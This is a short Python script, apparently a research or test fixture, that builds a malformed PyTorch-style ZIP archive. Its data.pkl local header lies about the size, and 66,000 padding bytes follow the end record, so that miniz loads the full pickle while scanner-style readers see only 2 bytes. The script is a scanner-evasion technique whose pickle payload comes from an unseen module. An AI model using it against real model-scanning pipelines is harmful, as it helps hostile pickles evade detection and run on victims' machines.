# A well-formed STORED archive (central sizes = the whole pickle) whose data.pkl local header claims
# csize 2, followed by 66000 bytes after the end record. miniz searches back ~69.6 KB for the end record
# (it gives up only after a 4 KiB chunk that starts 65557+ bytes from the end); readZip and the
# fallback's candidate-directory search look at the last 65557 bytes only, so the fallback falls to the
# local-header walk, which trusts the local header's csize (miniz uses the central one).
import sys, struct, zlib
import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from zlib7 import *
out, mode = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else '')
P = payload(mode)
f = bytearray()
f += lh(b'archive/data.pkl', 2, 2, 0, time=0); f += P
lv = len(f); ver = b'3\n'; f += lh(b'archive/version', 2, 2, zlib.crc32(ver), time=0); f += ver
cd = ch(b'archive/data.pkl', len(P), len(P), 0, zlib.crc32(P), time=0) + ch(b'archive/version', 2, 2, lv, zlib.crc32(ver), time=0)
cdoff = len(f); f += cd; f += eocd(2, len(cd), cdoff)
f += b'\0' * 66000
open(out, 'wb').write(f)
if mode == 'print':
    import miniz_sim; print('result:', miniz_sim.load(out))
